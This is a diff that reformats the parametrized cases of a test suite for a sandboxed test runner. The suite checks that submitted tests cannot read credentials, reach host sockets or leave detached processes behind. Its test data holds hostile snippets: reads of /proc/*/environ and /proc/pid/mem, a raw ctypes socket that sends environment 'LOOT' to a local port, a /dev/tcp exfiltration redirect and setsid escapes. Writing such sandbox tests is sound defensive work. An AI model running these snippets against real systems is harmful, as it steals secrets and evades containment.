@@ -65,14 +65,17 @@ def received(sock: socket.socket) -> bytes:
 # ------------------------------------------------------------------ the command itself
 
 
-@pytest.mark.parametrize("argv", [
-    ["python", "-S", "-c", "print(open('/proc/1/environ').read())"],
-    ["python", "-I", "-m", "pytest"],
-    ["python", "-E", "-m", "pytest"],
-    ["python", "-m", "pytest", "-p", "evil_plugin"],
-    ["python", "-m", "pytest", "--rootdir=/"],
-    ["sh", "-c", "cat /proc/$PPID/environ"],
-])
+@pytest.mark.parametrize(
+    "argv",
+    [
+        ["python", "-S", "-c", "print(open('/proc/1/environ').read())"],
+        ["python", "-I", "-m", "pytest"],
+        ["python", "-E", "-m", "pytest"],
+        ["python", "-m", "pytest", "-p", "evil_plugin"],
+        ["python", "-m", "pytest", "--rootdir=/"],
+        ["sh", "-c", "cat /proc/$PPID/environ"],
+    ],
+)
 def test_the_runner_refuses_any_command_but_pytest_with_paths_q_x_k(argv: list[str]) -> None:
     # Given a bundle that carries an interpreter flag, a plugin, an option or another program
     bundle = RunBundle(files={"a.py": "x = 1\n"}, steps=[RunStep(check="tests", argv=argv)])
@@ -89,13 +92,17 @@ def test_the_runner_refuses_any_command_but_pytest_with_paths_q_x_k(argv: list[s
 # ------------------------------------------------------------------ reading credentials
 
 
-@pytest.mark.parametrize("attack", [
-    STEAL_ENVIRON,  # ctypes libc open/read of every /proc/<pid>/environ
-    "import sys\nfork_exec(['/bin/sh', '-c', 'cat /proc/[0-9]*/environ | tr \"\\\\0\" \" \"'])\nsys.stdout.flush()",
-    "for pid in os.listdir('/proc'):\n"
-    "    if pid.isdigit() and int(pid) != os.getpid() and libc.open(f'/proc/{pid}/mem'.encode(), 0) >= 0:\n"
-    "        print('MEM' + '_OPEN', pid, native_read(f'/proc/{pid}/environ'))",  # marker not in the source shown
-], ids=["ctypes-environ", "posixsubprocess-cat", "proc-mem"])
+@pytest.mark.parametrize(
+    "attack",
+    [
+        STEAL_ENVIRON,  # ctypes libc open/read of every /proc/<pid>/environ
+        "import sys\nfork_exec(['/bin/sh', '-c', 'cat /proc/[0-9]*/environ | tr \"\\\\0\" \" \"'])\nsys.stdout.flush()",
+        "for pid in os.listdir('/proc'):\n"
+        "    if pid.isdigit() and int(pid) != os.getpid() and libc.open(f'/proc/{pid}/mem'.encode(), 0) >= 0:\n"
+        "        print('MEM' + '_OPEN', pid, native_read(f'/proc/{pid}/environ'))",  # marker not in the source shown
+    ],
+    ids=["ctypes-environ", "posixsubprocess-cat", "proc-mem"],
+)
 def test_code_in_a_test_cannot_read_the_runners_credentials(attack: str) -> None:
     # Given a fix whose test reads process environments and memory around the guard
     # When the runner (a process with credentials in its environment) runs it
@@ -121,18 +128,22 @@ def test_without_namespaces_the_same_read_would_leak(tmp_path: Path) -> None:
 # ------------------------------------------------------------------ the network
 
 
-@pytest.mark.parametrize("attack", [
-    # ctypes libc socket/connect/send: no audit event
-    "import struct\n"
-    "fd = libc.socket(2, 1, 0)\n"
-    "addr = struct.pack('!HH4s8x', 2, PORT, bytes([127, 0, 0, 1]))\n"
-    "addr = struct.pack('=H', 2) + addr[2:]\n"
-    "rc = libc.connect(fd, addr, len(addr))\n"
-    "libc.send(fd, b'LOOT ' + str(all_environs()).encode()[:60000], 60000, 0)\n"
-    "print('CONNECT', rc)",
-    # a program started around the guard
-    "fork_exec(['/bin/sh', '-c', 'cat /proc/self/environ > /dev/tcp/127.0.0.1/PORT'])",
-], ids=["ctypes-socket", "posixsubprocess-shell"])
+@pytest.mark.parametrize(
+    "attack",
+    [
+        # ctypes libc socket/connect/send: no audit event
+        "import struct\n"
+        "fd = libc.socket(2, 1, 0)\n"
+        "addr = struct.pack('!HH4s8x', 2, PORT, bytes([127, 0, 0, 1]))\n"
+        "addr = struct.pack('=H', 2) + addr[2:]\n"
+        "rc = libc.connect(fd, addr, len(addr))\n"
+        "libc.send(fd, b'LOOT ' + str(all_environs()).encode()[:60000], 60000, 0)\n"
+        "print('CONNECT', rc)",
+        # a program started around the guard
+        "fork_exec(['/bin/sh', '-c', 'cat /proc/self/environ > /dev/tcp/127.0.0.1/PORT'])",
+    ],
+    ids=["ctypes-socket", "posixsubprocess-shell"],
+)
 def test_nothing_reaches_a_socket_on_the_host(listener: socket.socket, attack: str) -> None:
     port = listener.getsockname()[1]
 
@@ -145,9 +156,11 @@ def test_nothing_reaches_a_socket_on_the_host(listener: socket.socket, attack: s
 
 
 def test_without_namespaces_the_socket_would_receive(listener: socket.socket) -> None:
-    attack = ("import struct\nfd = libc.socket(2, 1, 0)\n"
-              "addr = struct.pack('=H', 2) + struct.pack('!H4s8x', PORT, bytes([127, 0, 0, 1]))\n"
-              "libc.connect(fd, addr, len(addr))\nlibc.send(fd, b'LOOT', 4, 0)\n")
+    attack = (
+        "import struct\nfd = libc.socket(2, 1, 0)\n"
+        "addr = struct.pack('=H', 2) + struct.pack('!H4s8x', PORT, bytes([127, 0, 0, 1]))\n"
+        "libc.connect(fd, addr, len(addr))\nlibc.send(fd, b'LOOT', 4, 0)\n"
+    )
     reply = run_in_runner_process(bundle_for(attack.replace("PORT", str(listener.getsockname()[1]))), guard_only=True)
 
     assert reply.steps
@@ -160,8 +173,10 @@ def test_without_namespaces_the_socket_would_receive(listener: socket.socket) ->
 def test_a_double_forked_setsid_child_does_not_outlive_the_run() -> None:
     # Given a fix whose test leaves a detached grandchild in a new session (no audit event: libc system)
     marker = f"{time.time_ns() % 997}.{uuid.uuid4().int % 10**6}"
-    attack = f"libc.system(b\"setsid sh -c 'sleep {marker}' > /dev/null 2>&1 < /dev/null &\")\n" \
-             f"fork_exec(['/bin/sh', '-c', 'setsid sleep {marker}.5 > /dev/null 2>&1 < /dev/null &'])"
+    attack = (
+        f"libc.system(b\"setsid sh -c 'sleep {marker}' > /dev/null 2>&1 < /dev/null &\")\n"
+        f"fork_exec(['/bin/sh', '-c', 'setsid sleep {marker}.5 > /dev/null 2>&1 < /dev/null &'])"
+    )
 
     # When the run is over
     reply = run_in_runner_process(bundle_for(attack))
